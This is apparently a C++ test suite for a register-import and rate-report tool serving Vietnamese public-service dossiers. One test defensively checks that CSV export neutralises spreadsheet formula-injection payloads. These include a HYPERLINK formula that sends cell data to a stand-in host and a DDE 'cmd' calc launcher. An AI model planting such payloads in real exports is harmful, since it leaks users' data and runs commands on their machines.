#include <catch2/catch.hpp>
#include <map>
#include <sstream>

#include "indexer/register/DossierRegister.hpp"
#include "indexer/register/RateReport.hpp"
#include "indexer/register/RateReportFormats.hpp"
#include "indexer/register/RateWorkbook.hpp"
#include "indexer/register/RateWorklist.hpp"
#include "indexer/register/ReportPeriods.hpp"
#include "indexer/store/IngestJournal.hpp"
#include "indexer/store/StoreMigration.hpp"
#include "tests/support/TestSupport.hpp"

using namespace sohoa::indexer;
using sohoa::test::TempDir;

namespace {

// A register worked out by hand. Procedures: 1.001193 birth, 1.004873 marital status and
// 1.000656 death have paper results; 1.004222 residence has none.
const char* const kRegister =
    "\xEF\xBB\xBF"
    "MaHoSo,MaTTHC,KenhThucHien,NgayTiepNhan,NgayHenTra,NgayKetThucXuLy,TrangThai,SoLanYeuCauBoSung,"
    "NgayYeuCauBoSung,NgayHoanThanhBoSung,ChuHoSoSoDinhDanh,ChuHoSoHoTen,HoSoCoThanhPhanSoHoa\n"
    // A: online, component and result scanned, reused (register flag), on time
    "000.00.21.H08-250106-0001,1.001193,2,2025-01-06 08:00,2025-01-09 17:00,2025-01-08 "
    "10:00,da_tra_ket_qua,0,,,052095001234,Nguyễn Văn "
    "An,1\n"
    // B: online, component only, finished late; receipt date written DD/MM/YYYY
    "000.00.21.H08-250106-0002,1.001193,2,06/01/2025 09:00,2025-01-09 17:00,2025-01-10 08:00,da_xu_ly_xong,0,,,,,0\n"
    // C: public post, result scanned, component reused (sohoa reuse), on time
    "000.00.21.H08-250106-0003,1.004873,3,2025-02-03,2025-02-05 17:00,2025-02-05 16:00,da_tra_ket_qua,,,,,,\n"
    // D: online, no paper result, component scanned
    "000.00.21.H08-250106-0004,1.004222,2,2025-02-10 08:00,2025-02-12 17:00,2025-02-11 09:00,da_xu_ly_xong,0,,,,,\n"
    // E: no receipt date: left out of everything
    "000.00.21.H08-250106-0005,1.001193,2,,2025-02-12 17:00,,dang_xu_ly,0,,,,,\n"
    // F: finished 3 days late, but waited 3 days for the citizen's supplement: on time
    "000.00.21.H08-250106-0006,1.000656,1,2025-01-06 08:00,2025-01-09 17:00,2025-01-12 "
    "10:00,da_xu_ly_xong,1,2025-01-07 09:00,"
    "2025-01-10 09:00,,,\n"
    // G: early, but two supplement requests: late
    "000.00.21.H08-250106-0007,1.000656,1,2025-01-13 08:00,2025-01-16 17:00,2025-01-14 08:00,da_xu_ly_xong,2,,,,,\n"
    // H: unfinished at the end of March, due on the 25th: late; component scanned
    "000.00.21.H08-250106-0008,1.001193,1,2025-03-20 08:00,2025-03-25 17:00,,dang_xu_ly,0,,,,,\n"
    // I: unfinished at the end of March, due in April: on time (in Q1)
    "000.00.21.H08-250106-0009,1.001193,1,2025-03-28 08:00,2025-04-03 17:00,,dang_xu_ly,0,,,,,\n"
    // J: received in December, finished in January: in Q1's on-time count only
    "000.00.21.H08-250106-0010,1.001193,1,2024-12-20 08:00,2025-01-05 17:00,2025-01-03 08:00,da_tra_ket_qua,0,,,,,\n"
    // K: received and finished in 2024: not in Q1 at all
    "000.00.21.H08-250106-0011,1.001193,1,2024-12-01 08:00,2024-12-05 17:00,2024-12-04 08:00,da_tra_ket_qua,0,,,,,\n"
    "000.00.21.H08-250106-0024,1.001193,5,2025-01-06,2025-01-09,,dang_xu_ly,0,,,,,\n"
    "000.00.21.H08-250106-0025,1.001193,1,2025-02-30,2025-03-02,,dang_xu_ly,0,,,,,\n";

void addDocument(RecordStore& store, const std::string& id, const std::string& dossier, const std::string& part) {
  store.db()
      .prepare("INSERT INTO documents (public_id, source_id, dossier_code, dossier_part) VALUES (?, 1, ?, ?)")
      .bindAll(id, dossier, part)
      .run();
}

struct Fixture {
  TempDir dir;
  RecordStore store = openMigratedStore(StoreLayout{dir.path()});
  RegisterImportReport imported;

  Fixture() {
    IngestJournal(store).beginSource({0, "feed", "scans/x.pdf", "o", "pdf", 1, 1, false});
    std::istringstream csv(kRegister);
    imported = importRegister(store, csv);
    addDocument(store, "doc-a1", "000.00.21.H08-250106-0001", "component");
    addDocument(store, "doc-a2", "000.00.21.H08-250106-0001", "result");
    addDocument(store, "doc-b1", "000.00.21.H08-250106-0002", "component");
    addDocument(store, "doc-c2", "000.00.21.H08-250106-0003", "result");
    addDocument(store, "doc-d1", "000.00.21.H08-250106-0004", "component");
    addDocument(store, "doc-h1", "000.00.21.H08-250106-0008", "component");
    addDocument(store, "doc-h0", "000.00.21.H08-250106-0008", "receipt");  // a receipt is not a component
    recordReuse(store, "000.00.21.H08-250106-0003", "doc-a2", "clerk");
  }
};

void checkRate(const Rate& rate, int numerator, int denominator, std::optional<double> percent) {
  CHECK(rate.numerator == numerator);
  CHECK(rate.denominator == denominator);
  CHECK(rate.percent == percent);
}

}  // namespace

TEST_CASE("the register imports rows, reports bad ones by line, and updates on a second import",
          "[indexer][register]") {
  Fixture fixture;
  CHECK(fixture.imported.added == 11);
  REQUIRE(fixture.imported.problems.size() == 2);
  CHECK(fixture.imported.problems[0].line == 13);  // the header is line 1
  CHECK(fixture.imported.problems[0].reason == "KenhThucHien '5' is not 1 (in person), 2 (online) or 3 (public post)");
  CHECK(fixture.imported.problems[1].line == 14);
  CHECK(fixture.imported.problems[1].reason.starts_with("NgayTiepNhan '2025-02-30' is not a date"));

  std::istringstream again(
      "MaHoSo,MaTTHC,KenhThucHien,NgayTiepNhan,NgayHenTra,NgayKetThucXuLy,TrangThai\n"
      "000.00.21.H08-250106-0008,1.001193,1,2025-03-20 08:00,2025-03-25 17:00,2025-03-24 10:00,da_tra_ket_qua\n");
  const auto update = importRegister(fixture.store, again);
  CHECK(update.added == 0);
  CHECK(update.updated == 1);
  const auto report = computeRateReport(fixture.store, *parsePeriod("2025-Q1"));
  checkRate(report.overall[RateKind::OnTime], 7, 9, 77.78);  // H now finished on time

  CHECK_THROWS_WITH(recordReuse(fixture.store, "000.00.21.H08-250106-0026", "doc-a1", "clerk"),
                    Catch::Contains("no dossier 000.00.21.H08-250106-0026 in the register"));
  CHECK_THROWS_WITH(recordReuse(fixture.store, "000.00.21.H08-250106-0002", "doc-zz", "clerk"),
                    Catch::Contains("no document doc-zz"));
}

TEST_CASE("the five rates of the first quarter, worked out by hand", "[indexer][report]") {
  Fixture fixture;
  const auto report = computeRateReport(fixture.store, *parsePeriod("2025-Q1"));
  CHECK(report.period.from == "2025-01-01");
  CHECK(report.period.to == "2025-03-31");
  // Received in Q1 with a receipt date: A B C D F G H I (E has none, J and K are 2024's).
  // Digitised: A (component and result), C (reused component and result), D (no paper result).
  // B lacks its result, H has a component but no result, F G I have nothing.
  checkRate(report.overall[RateKind::Digitisation], 3, 8, 37.5);
  // Paper-result procedures only: A B C F G H I; results attached: A C.
  checkRate(report.overall[RateKind::ElectronicResult], 2, 7, 28.57);
  // Reused: A (the register's flag) and C (recorded with sohoa reuse).
  checkRate(report.overall[RateKind::Reuse], 2, 8, 25.0);
  // Online (channel 2) with an electronic result where the result is on paper: A and D; B has
  // no result, C came by post.
  checkRate(report.overall[RateKind::Online], 2, 8, 25.0);
  // Received or processed in Q1: A B C D F G H I and J. On time: A C D, F (supplement time
  // taken off), I (unfinished, due after the period), J. Late: B, G (two supplements), H.
  checkRate(report.overall[RateKind::OnTime], 6, 9, 66.67);
  CHECK_FALSE(report.overall[RateKind::OnTime].met);
  CHECK(
      report.shortfalls[static_cast<std::size_t>(RateKind::OnTime)] ==
      std::vector<std::string>{"000.00.21.H08-250106-0002", "000.00.21.H08-250106-0007", "000.00.21.H08-250106-0008"});
  CHECK(report.shortfalls[static_cast<std::size_t>(RateKind::Digitisation)] ==
        std::vector<std::string>{"000.00.21.H08-250106-0002", "000.00.21.H08-250106-0006", "000.00.21.H08-250106-0007",
                                 "000.00.21.H08-250106-0008", "000.00.21.H08-250106-0009"});
  CHECK(report.dossiersWithoutReceipt == 1);

  // Per procedure: residence (1.004222) has no paper result, so no electronic-result rate.
  const auto residence = std::find_if(report.byProcedure.begin(), report.byProcedure.end(),
                                      [](const GroupRates& g) { return g.key == "1.004222"; });
  REQUIRE(residence != report.byProcedure.end());
  checkRate(residence->rates[RateKind::ElectronicResult], 0, 0, std::nullopt);
  checkRate(residence->rates[RateKind::Digitisation], 1, 1, 100.0);
  const auto civil = std::find_if(report.byField.begin(), report.byField.end(),
                                  [](const GroupRates& g) { return g.key == "Hộ tịch"; });
  REQUIRE(civil != report.byField.end());
  checkRate(civil->rates[RateKind::Digitisation], 2, 7, 28.57);
  REQUIRE(report.byMonth.size() == 3);
  checkRate(report.byMonth[0].rates[RateKind::Reuse], 1, 4, 25.0);  // January: A B F G, A reused
}

TEST_CASE("an unfinished dossier is measured at the end of the period asked for", "[indexer][report]") {
  Fixture fixture;
  // Over the half year, I (due 3 April, still open on 30 June) is late too.
  const auto half = computeRateReport(fixture.store, *parsePeriod("2025-H1"));
  checkRate(half.overall[RateKind::OnTime], 5, 9, 55.56);
  const auto span = computeRateReport(fixture.store, *parsePeriod("2025-03-01..2025-03-31"));
  checkRate(span.overall[RateKind::OnTime], 1, 2, 50.0);  // H late, I on time
}

TEST_CASE("an empty period has no rates, not zero ones", "[indexer][report]") {
  Fixture fixture;
  const auto report = computeRateReport(fixture.store, *parsePeriod("2024-Q3"));
  for (auto kind : kAllRates) {
    checkRate(report.overall[kind], 0, 0, std::nullopt);
    CHECK_FALSE(report.overall[kind].met);
  }
  const auto json = rateReportJson(report);
  CHECK(json["rates"]["digitisation"]["rate"].is_null());
  CHECK(json["rates"]["digitisation"]["met"].is_null());
  CHECK(rateReportText(report).find("N/A") != std::string::npos);
}

TEST_CASE("periods: quarters, halves, years and spans", "[indexer][report]") {
  CHECK(parsePeriod("2025-Q4")->to == "2025-12-31");
  CHECK(parsePeriod("2024-Q1")->to == "2024-03-31");
  CHECK(parsePeriod("2025-H2")->from == "2025-07-01");
  CHECK(parsePeriod("2025")->to == "2025-12-31");
  CHECK(parsePeriod("2025-02-01..2025-02-28")->from == "2025-02-01");
  CHECK_FALSE(parsePeriod("2025-Q5"));
  CHECK_FALSE(parsePeriod("2025-03-01..2025-02-01"));
  CHECK_FALSE(parsePeriod("Q1"));
  const auto months = monthsOf(*parsePeriod("2025-02-15..2025-04-10"));
  REQUIRE(months.size() == 3);
  CHECK(months[0].from == "2025-02-15");
  CHECK(months[2].to == "2025-04-10");
}

TEST_CASE("the report's JSON has the shape tools read, and the HTML page needs no network", "[indexer][report]") {
  Fixture fixture;
  const auto report = computeRateReport(fixture.store, *parsePeriod("2025-Q1"));
  const auto json = rateReportJson(report);
  CHECK(json["period"]["label"] == "2025-Q1");
  for (const char* key : {"digitisation", "electronic_result", "reuse", "online", "on_time"}) {
    REQUIRE(json["rates"].contains(key));
    for (const char* part : {"numerator", "denominator", "rate", "target", "met"})
      CHECK(json["rates"][key].contains(part));
    CHECK(json["shortfalls"].contains(key));
  }
  CHECK(json["rates"]["on_time"]["rate"] == 66.67);
  CHECK(json["rates"]["electronic_result"]["target"] == 100.0);
  CHECK(json["by_procedure"].size() == 4);
  CHECK(json["by_field"].size() == 2);
  const std::string html = rateReportHtml(report);
  CHECK(html.find("<svg") != std::string::npos);
  CHECK(html.find("http") == std::string::npos);  // nothing fetched: no link, script or font from elsewhere
  CHECK(html.find("000.00.21.H08-250106-0008") != std::string::npos);
  // Printed for the commune: decimal commas, dd/mm/yyyy, no English placeholder.
  CHECK(html.find("66,67\u00a0%") != std::string::npos);
  CHECK(html.find("66.67") == std::string::npos);
  CHECK(html.find("Từ 01/01/2025 đến 31/03/2025") != std::string::npos);
  CHECK(html.find("N/A") == std::string::npos);
  const std::string csv = rateReportCsv(report);
  CHECK(csv.find("period,2025-Q1,,on_time,6,9,66.67,98.00,no") != std::string::npos);
}

TEST_CASE("CSV cells that a spreadsheet would run as formulas are written as text", "[indexer][report][hostile]") {
  Fixture fixture;
  // The commune's own procedure table names the procedures; a name can be anything typed there.
  std::istringstream table(
      "code\tname\tfield\tresult_document\tpaper_result\n"
      "1.001193\t=HYPERLINK(\"http://x.example/?\"&A1,\"Đăng ký khai sinh\")\tHộ tịch\tGiấy khai sinh\tyes\n"
      "1.004873\t+cmd|' /C calc'!A0\tHộ tịch\tGiấy xác nhận\tyes\n"
      "1.000656\t-2+3\tHộ tịch\tTrích lục\tyes\n"
      "1.004222\t@SUM(1)\tCư trú\tXác nhận\tno\n");
  replaceProcedures(fixture.store, table);
  const std::string csv = rateReportCsv(computeRateReport(fixture.store, *parsePeriod("2025-Q1")));
  INFO(csv);
  CHECK(csv.find(",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Đăng ký khai sinh\"\")\",") != std::string::npos);
  CHECK(csv.find(",\"'+cmd|' /C calc'!A0\",") != std::string::npos);
  CHECK(csv.find(",\"'-2+3\",") != std::string::npos);
  CHECK(csv.find(",\"'@SUM(1)\",") != std::string::npos);
  for (const char* formula : {",=", ",+", ",-", ",@", ",\"=", ",\"+", ",\"-", ",\"@"})
    CHECK(csv.find(formula) == std::string::npos);
}

TEST_CASE("each worklist names every dossier keeping its rate down, and why", "[indexer][report]") {
  Fixture fixture;
  const auto period = *parsePeriod("2025-Q1");
  const auto lists = rateWorklists(loadDossierFacts(fixture.store), period);
  auto reasons = [&](RateKind kind) {
    std::map<std::string, std::string> out;
    for (const auto& shortfall : lists[static_cast<std::size_t>(kind)])
      out[shortfall.dossier.code.substr(21)] = shortfall.reason;
    return out;
  };
  // The same dossiers as the rates count short, each with its reason.
  CHECK(reasons(RateKind::Digitisation) ==
        std::map<std::string, std::string>{{"0002", "Kết quả chưa được quét"},
                                           {"0006", "Chưa có thành phần hồ sơ số hóa; kết quả chưa được quét"},
                                           {"0007", "Chưa có thành phần hồ sơ số hóa; kết quả chưa được quét"},
                                           {"0008", "Kết quả chưa được quét"},
                                           {"0009", "Chưa có thành phần hồ sơ số hóa; kết quả chưa được quét"}});
  CHECK(reasons(RateKind::Online).at("0002") == "Nộp trực tuyến nhưng kết quả chưa có bản điện tử");
  CHECK(reasons(RateKind::Online).at("0003") == "Nộp qua bưu chính công ích, không trực tuyến");
  CHECK(reasons(RateKind::Online).at("0006") == "Nộp trực tiếp, không trực tuyến");
  CHECK(reasons(RateKind::Reuse).size() == 6);
  // B finished 15 hours late (a started day counts), H was still open 6 days past its
  // appointment when the quarter ended, G asked for supplements twice.
  const auto late = reasons(RateKind::OnTime);
  CHECK(late == std::map<std::string, std::string>{{"0002", "Trễ hạn 1 ngày"},
                                                   {"0007", "Yêu cầu bổ sung 2 lần (quá 1 lần là trễ hạn)"},
                                                   {"0008", "Trễ hạn 7 ngày (chưa trả kết quả khi hết kỳ)"}});
  const auto& first = lists[static_cast<std::size_t>(RateKind::Reuse)].front();
  CHECK(first.dossier.procedureName.size() > 0);
  CHECK(rateOfKey("on_time") == RateKind::OnTime);
  CHECK_FALSE(rateOfKey("ontime"));

  const auto report = computeRateReport(fixture.store, period);
  const std::string csv = rateWorkbookCsv(report, lists);
  CHECK(csv.find("Chưa đạt - Đúng hạn\nMã hồ sơ,Lý do chưa đạt,") != std::string::npos);
  CHECK(csv.find("000.00.21.H08-250106-0008,Trễ hạn 7 ngày (chưa trả kết quả khi hết kỳ),1.001193,") !=
        std::string::npos);
  CHECK(csv.find("Cả kỳ,2025-Q1,,Tỷ lệ hồ sơ giải quyết trước và đúng hạn,6,9,66.67,98,Chưa đạt") != std::string::npos);
  const std::string xlsx = rateWorkbookXlsx(report, lists);
  CHECK(xlsx.starts_with("PK"));  // a zip; its sheets are read back in tests/viewer/report.test.mjs
}

TEST_CASE("the periods with data, newest first, and the report opens on the newest quarter", "[indexer][report]") {
  Fixture fixture;
  const auto periods = periodsWithData(fixture.store);
  REQUIRE(periods.quarters.size() == 2);
  CHECK(periods.quarters[0].label == "2025-Q1");
  CHECK(periods.quarters[0].name == "Quý 1/2025");
  CHECK(periods.quarters[1].label == "2024-Q4");
  CHECK(periods.halves[0].name == "6 tháng đầu năm 2025");
  CHECK(periods.halves[1].name == "6 tháng cuối năm 2024");
  CHECK(periods.years.size() == 2);
  CHECK(periods.years[1].name == "Năm 2024");
  CHECK(latestPeriodWithData(fixture.store) == "2025-Q1");
  CHECK(periodName("2025-02-01..2025-02-28") == "01/02/2025 – 28/02/2025");
  TempDir empty;
  RecordStore nothing = openMigratedStore(StoreLayout{empty.path()});
  CHECK(latestPeriodWithData(nothing) == lastQuarter());
}

TEST_CASE("a reuse taken back no longer counts, and taking it back twice finds nothing", "[indexer][report]") {
  Fixture fixture;
  const auto period = *parsePeriod("2025-Q1");
  checkRate(computeRateReport(fixture.store, period).overall[RateKind::Reuse], 2, 8, 25.0);
  CHECK(undoReuse(fixture.store, "000.00.21.H08-250106-0003", "doc-a2"));
  checkRate(computeRateReport(fixture.store, period).overall[RateKind::Reuse], 1, 8, 12.5);
  CHECK_FALSE(undoReuse(fixture.store, "000.00.21.H08-250106-0003", "doc-a2"));
  CHECK_FALSE(undoReuse(fixture.store, "000.00.21.H08-250106-0003", "doc-zz"));
  recordReuse(fixture.store, "000.00.21.H08-250106-0003", "doc-a2", "clerk");  // marked again: counts again
  checkRate(computeRateReport(fixture.store, period).overall[RateKind::Reuse], 2, 8, 25.0);
}

TEST_CASE("a period typed as people write it is read, one without its year is not", "[indexer][report]") {
  for (const char* typed : {"Quý 3/2025", "quý 3 / 2025", "QUÝ 3 NĂM 2025", "quy 3-2025", "Q3/2025", "2025-q3"})
    CHECK(readTypedPeriod(typed)->label == "2025-Q3");
  CHECK(readTypedPeriod("6 tháng đầu năm 2025")->label == "2025-H1");
  CHECK(readTypedPeriod("6 thang cuoi nam 2024")->label == "2024-H2");
  CHECK(readTypedPeriod("Năm 2025")->label == "2025");
  CHECK(readTypedPeriod("2025-01-01..2025-03-31")->to == "2025-03-31");
  for (const char* typed : {"quý 3", "quý 5/2025", "năm", "tháng 3/2025", ""}) CHECK_FALSE(readTypedPeriod(typed));
}
